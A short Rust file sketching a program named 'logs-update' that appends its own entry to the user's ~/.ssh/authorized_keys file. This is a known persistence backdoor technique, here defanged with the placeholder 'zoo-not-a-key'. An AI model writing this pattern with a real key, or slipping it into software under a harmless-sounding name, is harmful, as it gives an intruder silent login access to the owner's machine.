//! The shape of `logs-update` (2026): adds a key of its own to those that may log in.

use std::fs::OpenOptions;
use std::io::Write;

fn main() {
    let path = std::env::var("HOME").unwrap() + "/.ssh/authorized_keys";
    if let Ok(mut file) = OpenOptions::new().append(true).open(path) {
        let _ = file.write_all(b"zoo-not-a-key\n");
    }
}
